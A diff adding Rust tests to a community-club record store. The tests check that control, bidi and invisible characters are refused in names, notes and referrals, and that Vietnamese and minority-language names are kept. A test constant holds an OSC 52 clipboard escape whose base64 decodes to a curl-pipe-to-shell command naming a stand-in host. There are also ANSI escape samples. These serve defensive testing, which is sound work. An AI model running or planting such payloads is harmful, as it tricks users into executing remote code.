@@ -340,3 +340,156 @@ fn missing_records_are_not_found_and_locked_store_refuses() {
     ));
     assert!(matches!(f.store.list_members(&club.id), Err(Error::Locked)));
 }
+
+/// What an attacker types into a name or a note so that whoever prints it runs it: an OSC 52
+/// clipboard write, a colour change, a right-to-left override that shows "Hoa" for "aoH".
+const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+
+#[test]
+fn control_bidi_and_invisible_characters_are_refused_in_every_text_field() {
+    let mut f = Fixture::new();
+    let club = f.store.add_club(&club_input()).unwrap();
+    let hoa = f
+        .store
+        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
+        .unwrap();
+    let reason_of = invalid_field;
+
+    // Single-line fields: names, village, phone, topic, place, follow-up task.
+    for bad in [
+        format!("Vi Thị Hoa{OSC52}"),
+        "Vi Thị \u{1b}[31mHoa".to_owned(),
+        "Vi Thị Hoa\u{7f}".to_owned(),
+        "Vi Thị Hoa\u{9b}31m".to_owned(),
+        "Vi Thị \u{0}Hoa".to_owned(),
+    ] {
+        let input = member_input(&bad, "Thái", "Bản Chai");
+        assert_eq!(
+            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
+            ("full_name", Reason::ControlCharacter),
+            "{bad:?}"
+        );
+    }
+    for bidi in [
+        '\u{202e}', '\u{202a}', '\u{2066}', '\u{2069}', '\u{200f}', '\u{61c}',
+    ] {
+        let input = member_input("Vi Thị Hoa", "Thái", &format!("Bản {bidi}Chai"));
+        assert_eq!(
+            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
+            ("village", Reason::BidiControl),
+            "{bidi:?}"
+        );
+    }
+    for hidden in ['\u{200b}', '\u{feff}', '\u{2060}', '\u{ad}', '\u{e0041}'] {
+        let mut input = member_input("Vi Thị Hoa", "Thái", "Bản Chai");
+        input.phone = Some(format!("0912{hidden}345678"));
+        assert_eq!(
+            reason_of(f.store.add_member(&club.id, &input).unwrap_err()),
+            ("phone", Reason::InvisibleCharacter),
+            "{hidden:?}"
+        );
+    }
+    let mut club_bad = club_input();
+    club_bad.name = format!("CLB {OSC52}");
+    assert_eq!(
+        reason_of(f.store.add_club(&club_bad).unwrap_err()),
+        ("name", Reason::ControlCharacter)
+    );
+    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
+    meeting.topic = "Di cư an toàn\u{202e}".into();
+    assert_eq!(
+        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
+        ("topic", Reason::BidiControl)
+    );
+    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
+    meeting.follow_ups = vec![FollowUp {
+        task: format!("Gọi cho chị Hoa{OSC52}"),
+        person: "Lò Thị Mai".into(),
+        due: today(),
+        done: false,
+    }];
+    assert_eq!(
+        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
+        ("follow_ups.task", Reason::ControlCharacter)
+    );
+
+    // Multi-line fields: notes keep their line breaks and tabs, and nothing else of those.
+    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
+    meeting.notes = format!("Họp chi hội\n{OSC52}");
+    assert_eq!(
+        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
+        ("notes", Reason::ControlCharacter)
+    );
+    meeting.notes = "Họp chi hội\u{2067}\n".into();
+    assert_eq!(
+        reason_of(f.store.record_meeting(&meeting).unwrap_err()),
+        ("notes", Reason::BidiControl)
+    );
+    let mut referral = referral_input(&hoa.id, None);
+    referral.note = "Muốn học may\u{1b}[2J".into();
+    assert_eq!(
+        reason_of(f.store.create_referral(&referral).unwrap_err()),
+        ("note", Reason::ControlCharacter)
+    );
+    let r = f
+        .store
+        .create_referral(&referral_input(&hoa.id, None))
+        .unwrap();
+    assert_eq!(
+        reason_of(f.store.withdraw_referral(&r.id, "rút\u{200b}").unwrap_err()),
+        ("note", Reason::InvisibleCharacter)
+    );
+
+    // The message names the field and the problem, never the value.
+    let err = f
+        .store
+        .add_member(
+            &club.id,
+            &member_input(&format!("Vi Thị Hoa{OSC52}"), "Thái", "Bản Chai"),
+        )
+        .unwrap_err()
+        .to_string();
+    assert!(!err.contains("Hoa") && !err.contains('\u{1b}'), "{err}");
+
+    // Nothing refused was stored.
+    assert_eq!(f.store.member_count().unwrap(), 1);
+    assert!(f.store.meetings(&club.id).unwrap().is_empty());
+}
+
+#[test]
+fn vietnamese_and_minority_language_text_is_kept() {
+    let mut f = Fixture::new();
+    let club = f.store.add_club(&club_input()).unwrap();
+    // Vietnamese with every tone, in NFC and NFD; Hmong RPA (tone letters), Thái and Tày
+    // names, Ê Đê and Ba Na letters with breves, apostrophes of Central Highlands names.
+    let names = [
+        "Nguyễn Thị Ngọc Ánh",
+        "Đặng Thị Hằng Nga",
+        "Trương Mỹ Lệ",
+        "Vàng Thị Mỷ",
+        "Tsab Xyooj Ntxawg",
+        "Lò Văn Cầm",
+        "Hoàng Thị Slao",
+        "H’Năng Niê",
+        "Y Ŏn Ksor",
+        "Rơ Châm H'Lin",
+        "Ka Ră Đơ Ĕ",
+    ];
+    for name in names {
+        for input in [name.to_owned(), unicode_nfd(name)] {
+            let m = f
+                .store
+                .add_member(&club.id, &member_input(&input, "Mông", "Bản Ón"))
+                .unwrap_or_else(|e| panic!("{name}: {e}"));
+            assert_eq!(m.info.full_name, name);
+        }
+    }
+    let hoa = f
+        .store
+        .add_member(&club.id, &member_input("Vi Thị Hoa", "Thái", "Bản Chai"))
+        .unwrap();
+    let mut meeting = meeting_input(&club.id, vec![hoa.id.clone()]);
+    meeting.notes = "Dòng một\nDòng hai:\tcó tab\r\nDòng ba".into();
+    let meeting = f.store.record_meeting(&meeting).unwrap();
+    assert_eq!(meeting.info.notes, "Dòng một\nDòng hai:\tcó tab\nDòng ba");
+}
